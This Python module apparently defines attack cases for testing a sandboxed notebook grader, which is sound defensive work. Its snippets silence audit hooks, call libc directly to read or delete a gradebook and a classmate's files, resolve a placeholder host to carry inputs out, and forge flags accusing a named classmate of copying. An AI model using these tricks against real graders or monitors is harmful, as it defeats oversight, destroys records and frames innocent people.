"""Attacks on flags: they would be silent, be taken for a package, or accuse somebody else."""

from __future__ import annotations

from .attack import THROUGH, Attack

OBJECTS = """import gc
try:
    things = gc.get_objects()
except PermissionError:
    things = []
"""
SILENCED = f"""{OBJECTS}
for thing in things:
    if hasattr(thing, "_flag"):
        thing._flag = lambda *given: None
"""
UNPLUGGED = f"""{OBJECTS}
for thing in things:
    if type(thing).__name__ == "Channel":
        thing.flag = lambda *given: None
        thing._flags = set(range(99))
"""
FORGED = """import json, os, struct
frame = json.dumps({"flag": [%r, %r]}).encode()
for fd in range(3, 256):
    try:
        os.write(fd, struct.pack("!II", len(frame), 0) + frame)
    except OSError:
        pass"""
IN_C = """import ctypes, os, struct
libc = ctypes.CDLL(None, use_errno=True)
"""
ADDRESS = "struct.pack('=H', 2) + struct.pack('!H', 80) + bytes([192, 0, 2, 1]) + bytes(8)"


def _silent(name: str, tries: str, attempt: str, flag: str) -> Attack:
    return Attack(name, tries, attempt=attempt, from_level=2, flag=flag)


def _forged(name: str, tries: str, kind: str, detail: str) -> Attack:
    return Attack(name, tries, inside=FORGED % (kind, detail))


FLAGS = (
    _silent(
        "silenced_by_gc",
        "Silences Python's audit hook, then reads the gradebook.",
        SILENCED + "assert open(@gradebook@, 'rb').read()",
        "reads_outside",
    ),
    _silent(
        "unplugged_by_gc",
        "Takes the way of flags out of the process, then writes outside.",
        UNPLUGGED + "open(@outside@ + '/silent.txt', 'w').write('x')",
        "writes_outside",
    ),
    _silent(
        "silent_open",
        "Reads a classmate's notebook past Python.",
        SILENCED + IN_C + "assert libc.open(@notebook@.encode(), 0) >= 0",
        "reads_outside",
    ),
    _silent(
        "silent_raw_open",
        "The same by the number of the call.",
        IN_C + "assert libc.syscall(257, -100, @notebook@.encode(), 0) >= 0",
        "reads_outside",
    ),
    _silent(
        "silent_openat2",
        "The same by a newer call.",
        IN_C + "how = ctypes.create_string_buffer(24)\n"
        "assert libc.syscall(437, -100, @notebook@.encode(), how, 24) >= 0",
        "reads_outside",
    ),
    _silent(
        "silent_from_folder",
        "Opens a folder for its name alone and reads the gradebook from there.",
        "import os\nfolder = os.open(os.path.dirname(@gradebook@), os.O_PATH)\n"
        "os.open('gradebook.db', os.O_RDONLY, dir_fd=folder)",
        "reads_outside",
    ),
    _silent(
        "silent_unlink",
        "Deletes the gradebook past Python.",
        IN_C + "assert libc.unlink(@gradebook@.encode()) == 0",
        "writes_outside",
    ),
    _silent(
        "silent_connect",
        "Reaches for another machine past Python.",
        IN_C + f"assert libc.connect(libc.socket(2, 1, 0), {ADDRESS}, 16) == 0",
        "network",
    ),
    _silent(
        "silent_datagram",
        "Sends a packet past Python.",
        IN_C + f"assert libc.sendto(libc.socket(2, 2, 0), b'x', 1, 0, {ADDRESS}, 16) == 1",
        "network",
    ),
    _silent(
        "silent_name",
        "Asks for a name past Python, which could carry inputs out.",
        IN_C + "found = ctypes.c_void_p()\n"
        "assert libc.getaddrinfo(b'inputs.example.org', b'80', None, ctypes.byref(found)) == 0",
        "network",
    ),
    _silent(
        "silent_fork",
        "Forks past Python's own fork.",
        SILENCED + IN_C + "pid = libc.fork()\nos._exit(0) if pid == 0 else None\nassert pid > 0",
        "starts_process",
    ),
    _silent(
        "silent_exec",
        "Becomes another program past Python.",
        IN_C + "assert libc.execve(b'/bin/sleep', None, None) == 0",
        "starts_process",
    ),
    _silent(
        "silent_signal",
        "Asks past Python whether its parent can be signaled.",
        IN_C + "assert libc.kill(os.getppid(), 0) == 0",
        "kills",
    ),
    _silent(
        "silent_trace",
        "Reads another process's memory by a call that Python has no function for.",
        IN_C + "assert libc.process_vm_readv(os.getppid(), None, 0, None, 0, 0) == 0",
        "escapes",
    ),
    _silent(
        "silent_in_a_thread",
        "Reads the gradebook in a thread of its own.",
        "import threading\nread = []\n"
        "def look():\n    try:\n        read.append(open(@gradebook@, 'rb').read())\n"
        "    except OSError:\n        pass\n"
        "thread = threading.Thread(target=look)\nthread.start()\nthread.join()\nassert read",
        "reads_outside",
    ),
    _silent(
        "own_filter",
        "Lays a filter of its own upon the process, which could answer in the grader's place.",
        IN_C + "assert libc.prctl(22, 2, None, 0, 0) == 0",
        "escapes",
    ),
    _silent(
        "closed_to_the_grader",
        "Closes itself to whoever looks up its folder.",
        IN_C + "assert libc.prctl(4, 0, 0, 0, 0) == 0",
        "escapes",
    ),
    _forged("forged_copy", "Says that a classmate copied.", "alike", "wang_wei"),
    _forged("forged_reference", "Says that an answer is the reference.", "reference_copied", "100"),
    _forged("forged_reading", "Says that a file was read.", "reads_outside", "/home/wang_wei"),
    Attack(
        "many_attempts",
        "Tries 200 files that are not there, so that the gradebook is lost among them.",
        from_level=2,
        flag="reads_outside",
        inside="import os\nfor path in [f'/home/{n}' for n in range(200)] + [@gradebook@]:"
        "\n    try:\n        os.open(path, 0)\n    except OSError:\n        pass",
    ),
    Attack(
        "huge_outputs",
        "Returns random numbers that no compression makes smaller.",
        plain="",
        inside="return torch.rand(300, 1000), torch.rand(200_000)",
    ),
    Attack(
        "many_errors",
        "Raises a long random message in many cells' worth of calls.",
        plain="",
        inside="import secrets\nraise ValueError(secrets.token_hex(10_000))",
    ),
    Attack(
        "shell_commands",
        "A right answer below shell commands, which is no attack at all.",
        before="get_ipython().system('pip install einops')\nget_ipython().getoutput('ls')",
        may_lose="nothing",
    ),
    Attack(
        "command_composed",
        "Composes shell commands of the hidden inputs, which a note on the page would show.",
        inside=f"get_ipython().system('{THROUGH} ' + repr(locals()))",
        may_lose="nothing",
        from_level=0,
    ),
    Attack(
        "socket_probe",
        "A right answer below a look at what the network offers, as packages do.",
        before="import socket\nprobe = socket.socket(socket.AF_INET6)\nprobe.close()",
        may_lose="nothing",
    ),
)
